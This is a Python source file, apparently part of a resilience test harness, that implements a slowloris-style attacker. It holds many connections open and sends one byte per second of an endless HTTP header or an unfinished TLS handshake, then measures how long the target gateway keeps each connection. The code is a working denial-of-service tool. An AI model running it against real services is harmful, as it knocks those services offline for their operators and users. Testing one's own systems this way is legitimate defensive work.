# A crowd that sends a byte at a time (slowloris): one process, an address of its own, as many connections as it is told,
# each of which takes as long as it may over the header of a request or over the first message of TLS.
import contextlib
import resource
import selectors
import socket
import time

from attackers import SOURCE

HEADER = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 4000
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 501  # a record of 512 bytes that never comes to its end
TURN_SECONDS = 1.0  # each sends its next byte once in that time


class Gateway:
    """The target: the address of a gateway; as an attacker of attackers.attack() sees it."""

    def __init__(self, host, port):
        self.address = (host, port)


class Slow:
    """One connection and what it has sent; None of a socket: the broker ended it, or did not take it."""

    def __init__(self, target, text):
        self.target, self.text, self.sent, self.since, self.socket = target, text, 0, 0.0, None

    def connect(self):
        self.sent, self.since = 0, time.monotonic()
        self.socket = socket.socket()
        try:
            self.socket.bind((SOURCE, 0))
            self.socket.settimeout(2)
            self.socket.connect(self.target.address)
            self.socket.setblocking(False)
            return self.step()
        except OSError:
            self.close()
            return False

    def step(self):
        """False: nothing can be sent any more."""
        try:
            self.socket.send(self.text[self.sent:self.sent + 1] or self.text[-1:])
            self.sent += 1
            return True
        except BlockingIOError:
            return True
        except OSError:
            return False

    def close(self):
        if self.socket is not None:
            self.socket.close()
        self.socket = None


def slow_senders(target, tally, stop, kind, count):
    """`kind`: HTTP or TLS. Whoever is cut comes back at once. Tells how many are there (`frames`), how many the broker ended
    (`done`) and in which times."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    crowd = [Slow(target, HELLO[:-1] if kind == b"TLS" else HEADER) for _ in range(count)]
    with selectors.EpollSelector() as ends:
        turn = 0
        while not stop.is_set():
            begun = time.monotonic()
            for index, one in enumerate(crowd):
                if stop.is_set():
                    break
                if one.socket is None:
                    if one.connect():
                        ends.register(one.socket, selectors.EVENT_READ, one)
                        tally.frames.value += 1
                elif one.step():
                    tally.bytes.value += 1
                if index % 100 == 0:
                    reap(ends, tally, 0)
            turn += 1
            while (left := begun + TURN_SECONDS - time.monotonic()) > 0 and not stop.is_set():
                reap(ends, tally, min(left, 0.05))
    for one in crowd:
        one.close()


def reap(ends, tally, seconds):
    """Those that the broker has ended; what it told them before is read."""
    for key, _ in ends.select(seconds):
        one = key.data
        with contextlib.suppress(OSError):
            if one.socket.recv(4096):
                continue
        ends.unregister(one.socket)
        lived = int((time.monotonic() - one.since) * 1000)
        tally.longest_ms.value = max(tally.longest_ms.value, lived)
        tally.shortest_ms.value = min(tally.shortest_ms.value or lived, lived)
        tally.done.value += 1
        tally.frames.value -= 1
        one.close()
